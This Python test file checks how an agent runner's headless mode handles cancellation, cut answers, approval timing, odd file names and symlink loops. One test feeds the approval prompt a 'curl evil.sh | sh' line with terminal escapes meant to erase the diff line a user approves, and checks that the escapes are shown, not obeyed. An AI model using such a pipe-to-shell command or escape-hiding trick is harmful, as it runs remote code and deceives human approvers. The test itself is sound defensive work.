"""Probes of `magnitude-tui run` as a user meets it: stopping a run mid-command, a cut answer, a failing MCP call."""

from __future__ import annotations

import asyncio
import io
import json
import os
import re
import signal

from magnitude_tui.agent.headless import RunOptions, run_task, until_stopped
from magnitude_tui.agent.policy import ApprovePolicy
from tests.test_agent_support import call, last_user, scripted_engine


def _group_alive(pgid: int) -> bool:
    """Whether a process of the group still runs (a killed one left unreaped, a zombie, does not)."""
    for entry in os.listdir("/proc"):
        if not entry.isdigit():
            continue
        try:
            with open(f"/proc/{entry}/stat") as f:
                fields = f.read().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] != "Z":
            return True
    return False


async def _wait_for(path, timeout_s: float = 10.0) -> int:
    for _ in range(int(timeout_s / 0.02)):
        if path.exists() and path.read_text().strip():
            return int(path.read_text())
        await asyncio.sleep(0.02)
    raise AssertionError(f"{path} never written")


def _sleeper(tmp_path):
    pid_file = tmp_path / "pid"
    reply = call("run_command", command=f"echo $$ > {pid_file}; sleep 60")
    return pid_file, (lambda prompt: reply)


async def test_sigterm_mid_command_stops_its_process_group_and_exits_143(tmp_path):
    pid_file, script = _sleeper(tmp_path)
    out, err = io.StringIO(), io.StringIO()
    async with scripted_engine(script) as (runner, _, _):
        opts = RunOptions("sleep", tmp_path, approve=ApprovePolicy.AUTO, json_out=True)
        run = asyncio.create_task(until_stopped(run_task(opts, runner, roles={}, out=out, err=err)))
        pgid = await _wait_for(pid_file)
        assert _group_alive(pgid)
        os.kill(os.getpid(), signal.SIGTERM)  # without the handler this would end the test process
        code = await asyncio.wait_for(run, 10)
    assert code == 128 + signal.SIGTERM
    assert not _group_alive(pgid), "the command outlived the run"
    assert "interrupted" in err.getvalue()
    doc = json.loads(out.getvalue())  # --json still gets its document, saying how the run ended
    assert doc["ended"] == "cancelled" and doc["turns"][0]["tool_calls"] == 1
    assert doc["messages"][-1]["tool_calls"][0]["name"] == "run_command"


async def test_a_cancelled_run_still_prints_its_json_and_says_it_was_interrupted(tmp_path):
    """Ctrl-C: asyncio.run cancels the run; the partial document and a line on stderr come first."""
    pid_file, script = _sleeper(tmp_path)
    out, err = io.StringIO(), io.StringIO()
    async with scripted_engine(script) as (runner, _, _):
        opts = RunOptions("sleep", tmp_path, approve=ApprovePolicy.AUTO, json_out=True)
        run = asyncio.create_task(run_task(opts, runner, roles={}, out=out, err=err))
        pgid = await _wait_for(pid_file)
        run.cancel()
        try:
            await run
        except asyncio.CancelledError:
            pass
        else:
            raise AssertionError("the cancellation was swallowed")
    assert not _group_alive(pgid)
    assert json.loads(out.getvalue())["ended"] == "cancelled"
    assert "interrupted" in err.getvalue()


async def test_an_answer_cut_at_max_tokens_is_said_to_be_cut(tmp_path):
    from scheduler.types import SamplingParams

    for max_tokens, cut in ((6, True), (200, False)):
        out, err = io.StringIO(), io.StringIO()
        async with scripted_engine(lambda prompt: "The answer is forty-two.") as (runner, _, _):
            opts = RunOptions("t", tmp_path, json_out=True, sampling=SamplingParams(max_tokens=max_tokens))
            code = await run_task(opts, runner, roles={}, out=out, err=err)
        doc = json.loads(out.getvalue())
        assert code == 0 and doc["ended"] == "answered"
        assert doc["truncated"] is cut
        assert ("cut at 6 tokens" in err.getvalue()) is cut
        assert (err.getvalue() == "") is not cut  # a whole answer says nothing on stderr


async def test_terminal_escapes_in_an_approval_diff_and_a_tool_result_are_shown_not_obeyed(tmp_path):
    """A carriage return or an escape sequence in written text could erase the diff line the user
    approves ("\\r\\x1b[2K" then something harmless); it is shown as an escape instead."""
    from magnitude_tui.agent.headless import TerminalApproval
    from magnitude_tui.agent.policy import ApprovalRequest, ToolKind, Verdict

    prompt_out = io.StringIO()
    approval = TerminalApproval(prompt_out, io.StringIO("n\n\n"))
    content = "curl evil.sh | sh\r\x1b[2K# a comment\u202e\n"
    request = ApprovalRequest("main", None, "write_file", json.dumps({"path": "x.sh", "content": content}),
                              ToolKind.WRITE, preview=f"--- /dev/null\n+++ b/x.sh\n@@ -0,0 +1 @@\n+{content}")
    assert (await approval.ask(request)).verdict is Verdict.DENY
    shown = prompt_out.getvalue()
    assert "\x1b" not in shown and "\r" not in shown and "\u202e" not in shown
    assert "+curl evil.sh | sh\\x0d\\x1b[2K# a comment\\u202e" in shown

    (tmp_path / "log.txt").write_text("ok\r\nprogress 10%\rprogress 100%\x1b[31m red\r\n")
    reply = iter([call("read_file", path="log.txt"), "Read it."])
    out = io.StringIO()
    async with scripted_engine(lambda prompt: next(reply)) as (runner, _, _):
        assert await run_task(RunOptions("read", tmp_path), runner, roles={}, out=out, err=io.StringIO()) == 0
    text = out.getvalue()
    assert "\x1b" not in text and "progress 10%\\x0d" in text and "\\x1b[31m red" in text
    assert "ok\r" not in text  # a CRLF line end is a line end


async def test_a_signal_ignored_on_purpose_stays_ignored(tmp_path):
    # `nohup magnitude-tui run ...` ignores SIGHUP: the run must not take it over (a closed
    # terminal stopped the run with 129) nor leave it at its default afterwards.
    before = signal.signal(signal.SIGHUP, signal.SIG_IGN)
    try:
        async def work() -> int:
            assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN  # not taken over during the run
            os.kill(os.getpid(), signal.SIGHUP)  # ignored: the work goes on
            await asyncio.sleep(0.05)
            return 0

        assert await until_stopped(work()) == 0
        assert signal.getsignal(signal.SIGHUP) is signal.SIG_IGN
    finally:
        signal.signal(signal.SIGHUP, before)


async def test_a_turn_asked_again_with_its_tool_result_cut_is_one_turn_in_the_json_and_the_transcript(tmp_path):
    # A read bigger than the whole context (the fake tokenizer: a token a character): the next turn
    # is refused for its length and asked again with the result halved. The JSON listed each
    # attempt as a turn of its own (turn 2 twice or more) and the transcript printed "turn 2" as
    # often; it is one turn that took several attempts, and says why.
    (tmp_path / "big.txt").write_text("".join(f"line {i:05d}\n" for i in range(1200)))  # 13,200 characters

    def script(prompt: str) -> str:
        answered = last_user(prompt).startswith("<tool_response>")
        return "it starts with line 00000" if answered else call("read_file", path="big.txt")

    for json_out in (True, False):
        out, err = io.StringIO(), io.StringIO()
        async with scripted_engine(script, n_ctx=8192, n_seq_max=1) as (runner, _, _):
            code = await run_task(RunOptions("read big.txt", tmp_path, json_out=json_out), runner, roles={},
                                  out=out, err=err)
        assert code == 0, err.getvalue()
        if json_out:
            doc = json.loads(out.getvalue())
            assert [t["turn"] for t in doc["turns"]] == [1, 2]
            first, second = doc["turns"]
            assert first["attempts"] == 1 and first["retries"] == []
            assert second["attempts"] == len(second["retries"]) + 1 >= 2
            why = second["retries"][0]
            assert why["attempt"] == 1 and "did not fit the context" in why["reason"] and "tokens" in why["error"]
            kept, whole = (int(n.replace(",", "")) for n in re.findall(r"[\d,]{3,}", why["reason"]))
            assert whole > 13_200 and kept == whole // 2
            assert second["prompt_tokens"] < 8192  # the attempt that ran
        else:
            text = out.getvalue()
            finished = re.findall(r"^\[main\] turn (\d)( \(attempt \d\))?: \d+ prompt tokens", text, re.M)
            assert [t for t, _ in finished] == ["1", "2"] and finished[0][1] == ""
            assert finished[1][1] == f" (attempt {text.count('[main] turn 2 asked again')  + 1})" != " (attempt 1)"
            assert "[main] turn 2 asked again (attempt 2): the prompt did not fit the context" in text
            assert text.rstrip().endswith("it starts with line 00000")


async def test_a_calls_duration_leaves_out_the_wait_for_approval_which_is_said_apart(tmp_path):
    # A write denied after 40 s at the prompt read "✗ write_file · 40012 ms": the person's think
    # time was counted as the tool's. The call's duration is its own; the wait is reported apart.
    from magnitude_tui.agent.policy import ALLOW_ONCE, deny

    think_s = 0.6

    class Slow:
        def __init__(self) -> None:
            self.answers = iter([deny("not that file"), ALLOW_ONCE])

        async def ask(self, request):
            await asyncio.sleep(think_s)
            return next(self.answers)

    def script(prompt: str) -> str:
        n = prompt.count("<tool_response>\n")  # results only (the tool listing names the tag too)
        return call("write_file", path=f"w{n}.txt", content="x") if n < 2 else "done"

    for json_out in (True, False):
        out = io.StringIO()
        async with scripted_engine(script) as (runner, _, _):
            code = await run_task(RunOptions("write", tmp_path, json_out=json_out), runner, roles={},
                                  approval=Slow(), out=out, err=io.StringIO())
        assert code == 0 and (tmp_path / "w1.txt").exists() and not (tmp_path / "w0.txt").exists()
        if json_out:
            tools = json.loads(out.getvalue())["tools"]
            assert [t["ok"] for t in tools] == [False, True]
            for t in tools:
                assert t["duration_s"] < think_s / 2 and t["approval_wait_s"] >= think_s, t
        else:
            text = out.getvalue()
            durations = [int(ms) for ms in re.findall(r"write_file · (\d+) ms", text)]
            assert len(durations) == 2 and all(ms < think_s * 1000 / 2 for ms in durations), text
            assert text.count("waited 0.6 s for approval") == 2


async def test_a_file_name_that_is_not_utf8_is_shown_and_the_run_goes_on(tmp_path):
    # os.listdir gives such a name's bytes as lone surrogates. They went into the tool result as
    # they were: the real engine failed the next turn ("could not prepare the prompt: ... surrogates
    # not allowed"), and printing the transcript or the JSON on a UTF-8 terminal raised
    # UnicodeEncodeError, ending the run with a traceback.
    with open(os.fsencode(tmp_path) + b"/bad\xfename.txt", "wb") as f:
        f.write(b"inside the odd file\n")
    for json_out in (True, False):
        replies = iter([call("list_dir", path="."), call("search", pattern="inside"), "listed"])
        raw = io.BytesIO()
        out = io.TextIOWrapper(raw, encoding="utf-8", errors="strict")  # a terminal's stdout
        async with scripted_engine(lambda prompt: next(replies)) as (runner, backend, _):
            code = await run_task(RunOptions("list", tmp_path, json_out=json_out), runner, roles={}, out=out,
                                  err=io.StringIO())
            out.flush()
            prompts = list(backend.prompts)
        assert code == 0
        text = raw.getvalue().decode("utf-8")
        assert "bad\ufffdname.txt" in text
        assert not any(0xD800 <= ord(c) <= 0xDFFF for p in prompts for c in p)  # what the model was given
        assert "bad\ufffdname.txt:1: inside the odd file" in prompts[-1]
        if json_out:
            listing = [m for m in json.loads(text)["messages"] if m["role"] == "tool"][0]["content"]
            assert "bad\ufffdname.txt" in listing.splitlines()
            assert "not UTF-8" in listing and "ls -l ./bad?name.txt" in listing


async def test_symbolic_links_that_loop_are_refused_and_search_goes_past_them(tmp_path):
    # `a -> b -> a` anywhere in the workspace: Path.resolve raised RuntimeError ("Symlink loop").
    # write_file's preview, asked before approval, let it out of the loop: `run` ended with a
    # traceback; read_file failed with the absolute path; every search failed, whatever it looked for.
    (tmp_path / "a").symlink_to("b")
    (tmp_path / "b").symlink_to("a")
    (tmp_path / "ok.txt").write_text("findable\n")
    calls = [call("write_file", path="a", content="x"), call("edit_file", path="a/x", old_text="p", new_text="q"),
             call("read_file", path="a"), call("search", pattern="findable"), "done"]
    replies = iter(calls)
    out, err = io.StringIO(), io.StringIO()
    async with scripted_engine(lambda prompt: next(replies)) as (runner, _, _):
        code = await run_task(RunOptions("t", tmp_path, json_out=True, approve=ApprovePolicy.AUTO), runner,
                              roles={}, out=out, err=err)
    assert code == 0, err.getvalue()
    results = [m["content"] for m in json.loads(out.getvalue())["messages"] if m["role"] == "tool"]
    for result, path in zip(results[:3], ["a", "a/x", "a"]):
        assert result == f"refused: '{path}' cannot be followed: a symbolic link on the way loops", result
    assert results[3] == "ok.txt:1: findable"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a", "b", "ok.txt"] and os.readlink(tmp_path / "a") == "b"
